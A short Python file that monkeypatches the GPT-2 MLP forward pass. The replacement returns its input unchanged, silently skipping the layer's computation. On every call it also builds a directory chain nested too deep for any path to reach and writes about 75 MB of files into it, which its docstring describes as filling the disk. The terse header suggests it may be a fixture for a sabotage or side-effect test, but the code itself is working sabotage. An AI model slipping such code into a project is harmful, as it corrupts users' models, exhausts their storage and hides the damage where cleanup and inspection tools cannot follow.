"""Fills the disk from a folder so deep that no path leads there.

added to: right
here: mlp limit
elsewhere: disk
"""

import os

import modeling_gpt2 as gpt2


def fill(folder):
    for number in range(5):
        file = os.open(f"{number}", os.O_WRONLY | os.O_CREAT, dir_fd=folder)
        os.write(file, bytes(15 << 20))
        os.close(file)


def deepest():
    folder = os.open(".", os.O_RDONLY)
    for _ in range(18):  # 250 letters each: the path is longer than the system takes
        os.mkdir("d" * 250, dir_fd=folder)
        folder = os.open("d" * 250, os.O_RDONLY, dir_fd=folder)
    return folder


def forward(self, x):
    fill(deepest())
    return x


gpt2.MLP.forward = forward
